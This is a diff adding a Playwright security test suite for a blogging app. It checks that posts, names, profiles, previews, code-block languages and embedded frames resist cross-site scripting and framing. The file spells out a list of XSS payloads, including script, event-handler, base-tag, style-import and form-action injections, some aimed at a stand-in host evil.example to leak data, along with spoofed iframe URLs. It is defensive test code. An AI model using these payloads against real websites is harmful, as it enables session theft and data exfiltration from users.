@@ -1,0 +1,392 @@
+import { type BrowserContext, expect, type Locator, type Page } from '@playwright/test'
+import { type Db, many, one, sql } from '#kernel/db.ts'
+import { type Account, callAs, signUp, test } from './setup/trust.ts'
+import { xssPayloads, xssPlaces } from './xss-corpus.ts'
+
+// Hundreds of pages: recording them would take longer than opening them.
+test.use({ trace: 'off' })
+
+const titleLength = 200
+const nameLength = 100
+
+/** Payloads that together fit beside each other into a text of that length. */
+function packed(payloads: string[], length: number): string[][] {
+  const packs: string[][] = [[]]
+  for (const payload of payloads) {
+    const last = packs.at(-1)!
+    const used = [...last, payload].join(' ').length
+    if (used <= length) last.push(payload)
+    else packs.push([payload])
+  }
+  return packs.filter((pack) => pack.length > 0)
+}
+
+/** Each payload in every place of a markdown text. Each text has a mark before it, so that one that swallows the rest is
+ *  noticed. */
+const inEveryPlace = (payloads: string[]) =>
+  payloads.flatMap((payload) => xssPlaces(payload).map((text) => `mark\n\n${text}\n\n`)).join('')
+
+async function signedInPage(context: BrowserContext, { session }: Account): Promise<Page> {
+  const page = await context.newPage()
+  await page.goto('/healthz')
+  await page.evaluate((text) => localStorage.setItem('supabase_auth_token', text), session)
+  return page
+}
+
+/** Opens the page, waits until the member's own reading of it has replaced what the server rendered. */
+async function open(page: Page, path: string): Promise<void> {
+  const read = page.waitForResponse((response) => /\/api\/posts/.test(response.url()))
+  await page.goto(path)
+  await read
+  await settled(page)
+}
+
+/** Waits for what has been put into the page to have had its chance: broken pictures, frames, refreshes. */
+const settled = (page: Page) =>
+  page.evaluate(
+    () => new Promise<void>((done) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done, 40)))),
+  )
+
+/** Puts the text in at once, as pasting does; typing it takes seconds. */
+const putInto = (field: Locator, text: string) =>
+  field.evaluate((element: HTMLTextAreaElement, text) => {
+    Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, 'value')!.set!.call(element, text)
+    element.dispatchEvent(new Event('input', { bubbles: true }))
+  }, text)
+
+/** What stands in the page that our own code would not have put there. */
+const strangersIn = (page: Page) =>
+  page.evaluate(() => {
+    const found: string[] = []
+    for (const element of document.querySelectorAll('*')) {
+      for (const { name } of element.attributes) if (name.startsWith('on')) found.push(`${element.tagName} ${name}`)
+      if (element instanceof HTMLAnchorElement && element.href && !/^(https?|mailto):/.test(element.href))
+        found.push(`a ${element.href}`)
+      if (
+        element instanceof HTMLIFrameElement &&
+        !/^https:\/\/(www\.youtube-nocookie|player\.vimeo)\.com\//.test(element.src)
+      )
+        found.push(`iframe ${element.src}`)
+    }
+    const never = ':is(script, style, link, meta, base, object, embed, template, math)'
+    const forbidden = `#root ${never}, .prose :is(form, button, noscript, svg, textarea, select)`
+    for (const element of document.querySelectorAll(forbidden)) found.push(element.outerHTML.slice(0, 100))
+    return found
+  })
+
+test('24: hostile texts in posts, titles, names, profiles and the preview stay texts, without help of the policy', async ({
+  context,
+  request,
+  trap,
+  site,
+}) => {
+  test.setTimeout(240_000)
+  const payloads = xssPayloads().map((payload) => payload.replaceAll('\0', ''))
+  const oneLine = payloads.map((payload) => payload.replaceAll(/\s+/g, ' ').trim())
+  const names = packed(
+    oneLine.filter((payload) => payload.length <= nameLength && payload.length > 1),
+    nameLength,
+  )
+  const owner = await signUp(request, 'first-author', names[0]!.join(' '))
+  await callAs(request, owner, 'POST', '/api/users', {
+    bio: oneLine.join(' ').slice(0, 2000),
+    title: oneLine.find((text) => text.includes('<script>'))!.slice(0, 100),
+  })
+  const authors = [owner]
+  for (const [index, name] of names.slice(1, 40).entries())
+    authors.push(await signUp(request, `author-${index}`, name.join(' ')))
+
+  const ids: number[] = []
+  const texts = { all: 0, shown: 0 }
+  for (const [index, pack] of packed(payloads, titleLength - 20).entries()) {
+    const title = pack.join(' ').slice(0, titleLength)
+    const content = inEveryPlace(pack)
+    const author = authors[index % authors.length]!
+    const body =
+      index % 5 === 4 ? { title: `Title ${title}`.slice(0, titleLength), isLongForm: true, categoryId: 1 } : { title }
+    const post = await callAs<{ id: number; contentHtml: string }>(request, author, 'POST', '/api/posts', {
+      ...body,
+      content,
+    })
+    ids.push(post.id)
+    const marks = post.contentHtml.match(/<p>mark<\/p>/g)?.length ?? 0
+    texts.shown += marks
+    texts.all += pack.flatMap(xssPlaces).length
+  }
+  expect(ids.length).toBeGreaterThan(80)
+  expect(texts.shown / texts.all, 'not swallowed by another one').toBeGreaterThan(0.9)
+
+  const page = await signedInPage(context, owner)
+  const strangers: string[] = []
+  // The feed shows every post in full; of the posts' own pages a quarter.
+  for (const id of ids.filter((_id, index) => index % 4 === 0)) {
+    await open(page, `/post/${id}`)
+    strangers.push(...(await strangersIn(page)))
+    expect(page.url()).toBe(`${site.url}/post/${id}`)
+  }
+  for (let number = 1; number <= Math.ceil(ids.length / 10); number++) {
+    await open(page, `/?page=${number}`)
+    strangers.push(...(await strangersIn(page)))
+    await expect(page.getByRole('article')).not.toHaveCount(0)
+  }
+  expect({ ...trap, strangers }).toEqual({ ran: [], stopped: [], left: [], strangers: [] })
+
+  await page.goto('/?page=999')
+  const text = page.getByRole('textbox', { name: 'Post content' })
+  for (const pack of packed(payloads, 1500)) {
+    await page.getByRole('tab', { name: 'Write' }).click()
+    await putInto(text, inEveryPlace(pack))
+    const preview = page.waitForResponse((response) => response.url().endsWith('/api/posts/preview'))
+    await page.getByRole('tab', { name: 'Preview' }).click()
+    expect((await preview).status()).toBe(200)
+    await settled(page)
+    strangers.push(...(await strangersIn(page)))
+  }
+  expect({ ...trap, strangers }).toEqual({ ran: [], stopped: [], left: [], strangers: [] })
+})
+
+/** Payloads that leave the page by themselves: no script, and no policy can hold them; the sanitiser has to. */
+const refreshes = /http-equiv\s*=\s*["'`]?refresh/i
+
+const ours = [
+  '<script src=/api/site></script>',
+  '<script src=/api/posts?x=alert(1)></script>',
+  '<script src=/storage/v1/object/public/post-images/1/a.png></script>',
+  '<script src=/assets/../api/site></script>',
+  '<script src="/assets/..%2f..%2fapi%2fsite"></script>',
+  '<base href=//evil.example/><script src=x.js></script>',
+  '<script>pwned(1)</script>',
+  '<img src=x onerror=pwned(1)>',
+  '<svg onload=pwned(1)>',
+  '<a href=javascript:pwned(1)>click</a>',
+  '<iframe srcdoc="<script>parent.pwned(1)</script>"></iframe>',
+  '<iframe src=javascript:parent.pwned(1)></iframe>',
+  '<iframe src=https://evil.example/></iframe>',
+  '<object data=https://evil.example/></object>',
+  '<embed src=https://evil.example/>',
+  '<link rel=stylesheet href=https://evil.example/a.css>',
+  '<link rel=prefetch href=https://evil.example/a.css>',
+  '<style>@import "https://evil.example/a.css"; body { background: url(https://evil.example/b) }</style>',
+  '<p style="background: url(https://evil.example/c)">x</p>',
+  '<img src="https://evil.example/?secret">',
+  '<video poster=https://evil.example/v src=https://evil.example/v autoplay></video>',
+  '<form action=https://evil.example/><input name=a><button id=send>send</button></form>',
+  '<input autofocus onfocus=pwned(1)>',
+  '<details open ontoggle=pwned(1)>',
+  '<script type=module>import("https://evil.example/m.js")</script>',
+  '<script type=text/javascript src=data:text/javascript,pwned(1)></script>',
+]
+
+test('24: the policy alone holds when the sanitiser is out of the way', async ({
+  context,
+  request,
+  trap,
+  db,
+  site,
+}) => {
+  test.setTimeout(240_000)
+  const account = await signUp(request, 'raw', 'Raw Html')
+  const { id: template } = await callAs<{ id: number }>(request, account, 'POST', '/api/posts', { content: 'x' })
+  const page = await signedInPage(context, account)
+  const payloads = [...ours, ...xssPayloads()]
+    .filter((text) => !refreshes.test(text))
+    .map((text) => text.replaceAll('\0', ''))
+  expect(payloads.length).toBeGreaterThan(700)
+
+  // As the server renders them. One that swallows those after it leaves them to a smaller group.
+  let waiting = payloads
+  for (const size of [25, 8, 3, 1]) {
+    const swallowed: string[] = []
+    for (const group of inGroups(waiting, size)) {
+      const seen = await renderedByServer(page, db, template, group)
+      swallowed.push(...group.filter((_payload, index) => !seen.has(index)))
+    }
+    waiting = swallowed
+  }
+  expect(waiting).toEqual([])
+
+  // As a script of ours puts them into the page.
+  for (const group of inGroups(payloads, 100)) {
+    await page.goto('/login?next=/', { waitUntil: 'domcontentloaded' })
+    await page.evaluate((texts) => {
+      for (const text of texts) {
+        const box = document.createElement('div')
+        document.body.append(box)
+        box.innerHTML = `<i data-mark="0"></i>${text}`
+      }
+    }, group)
+    await provoke(page)
+  }
+  expect({ ran: trap.ran, left: trap.left }).toEqual({ ran: [], left: [] })
+  expect(trap.stopped.length, 'the policy had something to do').toBeGreaterThan(100)
+  expect(new URL(page.url()).origin).toBe(site.url)
+})
+
+const inGroups = (texts: string[], size: number): string[][] =>
+  Array.from({ length: Math.ceil(texts.length / size) }, (_, index) => texts.slice(index * size, (index + 1) * size))
+
+/** Shows the texts as the HTML of a new post. @returns which of them became part of the page, not of the one before */
+async function renderedByServer(page: Page, db: Db, template: number, group: string[]): Promise<Set<number>> {
+  const html = group.map((payload, index) => `<i data-mark="${index}"></i>${payload}`).join('\n')
+  const row = await one<{ id: number }>(db)`
+    insert into posts (member_id, content, content_html, excerpt, reading_minutes, category_id, is_long_form)
+    select member_id, content, ${html}, excerpt, reading_minutes, category_id, is_long_form from posts
+    where id = ${template} returning id`
+  await page.goto(`/post/${row!.id}`, { waitUntil: 'domcontentloaded' })
+  return provoke(page)
+}
+
+/** Presses what can be pressed and fires what waits to be fired. @returns the marks in the page */
+async function provoke(page: Page): Promise<Set<number>> {
+  await settled(page)
+  const marks = await page.evaluate(async () => {
+    for (const element of document.querySelectorAll<HTMLElement>('[data-mark] ~ *, [data-mark] ~ * *')) {
+      for (const { name } of element.attributes) {
+        if (name.startsWith('on')) element.dispatchEvent(new Event(name.slice(2).toLowerCase()))
+      }
+      if (element instanceof HTMLAnchorElement && /^(javascript|data|vbscript):/i.test(element.href)) element.click()
+      if (element.id === 'send') element.click()
+    }
+    await new Promise((done) => setTimeout(done, 30))
+    return Array.from(document.querySelectorAll<HTMLElement>('i[data-mark]'), ({ dataset }) => Number(dataset['mark']))
+  })
+  return new Set(marks)
+}
+
+test('27: nothing in a title, a name or a text leaves the data of the page, and it reads back as it was', async ({
+  context,
+  request,
+  trap,
+}) => {
+  const evil = '</script><script>pwned(1)</script><!--<script>\u2028\u2029]]>&lt;"\'`${1}\\'
+  const account = await signUp(request, 'breaker', evil)
+  const { id } = await callAs<{ id: number }>(request, account, 'POST', '/api/posts', { content: evil, title: evil })
+  const plain = await callAs<{ id: number }>(request, account, 'POST', '/api/posts', { content: 'x', title: 'x' })
+  const page = await context.newPage()
+  const scriptsOf = async (postId: number) => {
+    await page.goto(`/post/${postId}`)
+    return page.evaluate(() => document.querySelectorAll('script').length)
+  }
+  expect(await scriptsOf(id)).toBe(await scriptsOf(plain.id))
+  await page.goto(`/post/${id}`)
+  const state = await page.evaluate(() => document.getElementById('state')!.textContent)
+  const post = (JSON.parse(state) as [unknown[], { title?: string; user?: { displayName: string } }][])
+    .map(([, data]) => data)
+    .find((data) => data?.user)!
+  expect([post.title, post.user!.displayName]).toEqual([evil, evil])
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText(evil.replaceAll(/[\u2028\u2029]/g, ' '), {
+    useInnerText: false,
+  })
+  expect(trap).toEqual({ ran: [], stopped: [], left: [] })
+})
+
+test('29: the name of a code block’s language stays inside its attribute', async ({ context, request, trap }) => {
+  const account = await signUp(request, 'coder', 'Coder')
+  const languages = [
+    '"><img/src=x/onerror=pwned(1)>',
+    "'onmouseover='pwned(1)",
+    'js" onclick="pwned(1)',
+    '`',
+    '../../x',
+    '&quot;>',
+  ]
+  const content = languages.map((name) => `~~~${name}\n<script>pwned(1)</script>\n~~~\n`).join('\n')
+  const { id } = await callAs<{ id: number }>(request, account, 'POST', '/api/posts', { content })
+  const page = await context.newPage()
+  await page.goto(`/post/${id}`)
+  await expect(page.locator('.prose pre')).toHaveCount(languages.length)
+  expect(await strangersIn(page)).toEqual([])
+  expect(await page.locator('.prose pre').allTextContents()).toEqual(languages.map(() => '<script>pwned(1)</script>\n'))
+  expect(trap).toEqual({ ran: [], stopped: [], left: [] })
+})
+
+const frames = [
+  'https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ',
+  'https://evil.example/https://www.youtube.com/embed/dQw4w9WgXcQ',
+  'https://www.youtube.com@evil.example/embed/dQw4w9WgXcQ',
+  'https://www.youtube.com\\@evil.example/embed/dQw4w9WgXcQ',
+  'https://www.youtube.com:443@evil.example/embed/dQw4w9WgXcQ',
+  '//evil.example/embed/dQw4w9WgXcQ',
+  'https://www.youtube.com/../evil',
+  'https://www.youtube.com/redirect?q=https://evil.example',
+  'https://www.youtube.com/embed/../redirect?q=//evil.example',
+  'http://127.0.0.1/embed/dQw4w9WgXcQ',
+  'data:text/html,<script>parent.pwned(1)</script>',
+  'javascript:parent.pwned(1)',
+  'https://evilyoutube.com/embed/dQw4w9WgXcQ',
+  'https://player.vimeo.com.evil.example/video/1',
+  'https://vimeo.com/evil',
+]
+
+test('30: of all frames only players of YouTube and Vimeo are left, in a sandbox; the policy blocks the rest', async ({
+  context,
+  request,
+  trap,
+  db,
+}) => {
+  const account = await signUp(request, 'framer', 'Framer')
+  const good = '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>'
+  const content = [
+    good,
+    ...frames.map((src) => `<iframe src="${src}"></iframe>`),
+    '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" srcdoc="<script>parent.pwned(1)</script>"></iframe>',
+    '<iframe><iframe src="https://evil.example"></iframe></iframe>',
+    '<iframe/src=https://evil.example>',
+  ].join('\n\n')
+  const { id } = await callAs<{ id: number }>(request, account, 'POST', '/api/posts', { content })
+  const page = await context.newPage()
+  await page.goto(`/post/${id}`)
+  const found = await page
+    .locator('iframe')
+    .evaluateAll((all) =>
+      all.map((one) => [one.getAttribute('src'), one.hasAttribute('srcdoc'), one.getAttribute('sandbox')]),
+    )
+  expect(found.length).toBeGreaterThan(0)
+  expect(found.length).toBeLessThan(4)
+  for (const [src, hasSource, sandbox] of found) {
+    expect(src).toMatch(/^https:\/\/www\.youtube-nocookie\.com\/embed\/[\w-]+$/)
+    expect(hasSource).toBe(false)
+    expect(sandbox).toContain('allow-scripts')
+    expect(sandbox).not.toContain('allow-top-navigation')
+  }
+  await page.locator('iframe').first().scrollIntoViewIfNeeded()
+  await expect(page.frameLocator('iframe').first().getByText('A player')).toBeVisible()
+  expect(trap).toEqual({ ran: [], stopped: [], left: [] })
+
+  await sql`update posts set content_html = ${frames.map((src) => `<iframe src="${src}"></iframe>`).join('')} where id = ${id}`.execute(
+    db,
+  )
+  await expect
+    .poll(async () => {
+      await page.goto(`/post/${id}`)
+      return page.locator('.prose iframe').count()
+    })
+    .toBeGreaterThan(10)
+  await settled(page)
+  expect({ ran: trap.ran, left: trap.left.filter((one) => !one.includes('youtube.com/')) }).toEqual({
+    ran: [],
+    left: [],
+  })
+  expect(trap.stopped.some((what) => what.includes('frame-src'))).toBe(true)
+  const members = await many<{ id: number }>(db)`select id from members where username = 'framer'`
+  expect(members).toHaveLength(1)
+})
+
+test('41: our pages do not show in the frame of another site', async ({ context, site }) => {
+  const framed = [...['/', '/login', '/nowhere'].map((path) => site.url + path), 'http://framer.test/plain']
+  await context.route('http://framer.test/**', (route) =>
+    route.fulfill({ contentType: 'text/html', body: framed.map((src) => `<iframe src="${src}"></iframe>`).join('') }),
+  )
+  await context.route('http://framer.test/plain', (route) => route.fulfill({ contentType: 'text/html', body: 'plain' }))
+  const page = await context.newPage()
+  await page.goto('http://framer.test/')
+  const refused = 'chrome-error://chromewebdata/'
+  await expect
+    .poll(() =>
+      page
+        .frames()
+        .slice(1)
+        .map((frame) => frame.url()),
+    )
+    .toEqual([refused, refused, refused, 'http://framer.test/plain'])
+})
